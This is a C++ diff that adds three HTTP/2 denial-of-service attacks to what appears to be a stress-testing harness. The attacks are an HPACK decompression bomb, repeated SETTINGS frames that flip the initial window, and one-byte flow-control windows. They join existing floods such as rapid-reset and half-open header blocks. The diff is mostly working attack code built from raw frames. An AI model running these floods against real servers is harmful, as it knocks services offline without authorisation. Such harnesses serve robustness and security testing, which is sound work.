@@ -118,6 +118,53 @@ Report LateReset(const Order& order) {
   });
 }
 
+// Headers that are a byte each on the wire, and 4 KiB each when they are read.
+Report Hpack(const Order& order) {
+  std::string bomb("\x40\x01x\x7f\xe0\x1e", 6);
+  bomb += std::string(4063, 'h');
+  return FloodFrames(
+      order,
+      [&](Peer& peer, int32_t) {
+        const int32_t stream = peer.next_stream();
+        const std::string block = peer.HeaderBlock({}) + bomb + std::string(8000, '\xbe');
+        peer.Frame(NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS, stream, block);
+      },
+      false);
+}
+
+// The window that all streams start with, up and down: each change is work for every open stream.
+Report WindowFlips(const Order& order) {
+  Report report;
+  Peers peers = ConnectAll(order, order.connections, {}, &report);
+  const std::string up("\0\4\0\x0f\xff\xff", 6);
+  const std::string down("\0\4\0\0\0\0", 6);
+  while (order.Going()) {
+    Reopen(order, {}, &peers, &report);
+    for (const auto& peer : peers) {
+      if (peer == nullptr) continue;
+      while (peer->alive() && peer->open_calls() < 40) {
+        peer->Open(CallHeaders(order, std::string(kReferrals) + "WatchReferrals"));
+      }
+      while (peer->alive() && peer->backlog() < (1 << 16)) {
+        peer->Frame(NGHTTP2_SETTINGS, 0, 0, up + down + up + down + up + down);
+        ++report.calls;
+      }
+      report.Take(peer->Ended());
+    }
+    Pump(peers, 5);
+  }
+  return report;
+}
+
+// Large answers through a window of one byte.
+Report ByteWindows(const Order& order) {
+  Manners manners;
+  manners.window = 1;
+  const Headers headers = CallHeaders(order, std::string(kProtocols) + "ListProtocols");
+  return Flood(
+      order, 20, 0, [&](Peer& peer) { peer.Call(headers, Page(3)); }, manners);
+}
+
 // Header blocks that never end: each holds a connection, and what was sent of it.
 Report HalfHeaders(const Order& order) {
   Report report;
@@ -176,7 +223,8 @@ Report Unread(const Order& order) {
     for (const auto& peer : peers) {
       if (peer == nullptr) continue;
       while (peer->alive() && peer->open_calls() < order.CountOr(100) / order.connections) {
-        peer->Call(headers, Page(0));
+        // Three protocols are just below the largest message.
+        peer->Call(headers, Page(3));
         ++report.calls;
       }
       report.Take(peer->Ended());
@@ -202,6 +250,9 @@ std::vector<Attack> FrameAttacks() {
       {"settings", "SETTINGS, without end", Settings},
       {"pings", "PING, without end", Pings},
       {"priorities", "PRIORITY, without end", Priorities},
+      {"hpack-bomb", "a byte of header block that stands for 4 KiB, 8,000 times", Hpack},
+      {"window-flips", "the first window of all streams up and down", WindowFlips},
+      {"byte-windows", "large answers through windows of one byte", ByteWindows},
       {"rapid-reset", "calls reset at once", RapidReset},
       {"late-reset", "calls reset when a service works on them", LateReset},
       {"half-headers", "400 header blocks that never end", HalfHeaders},
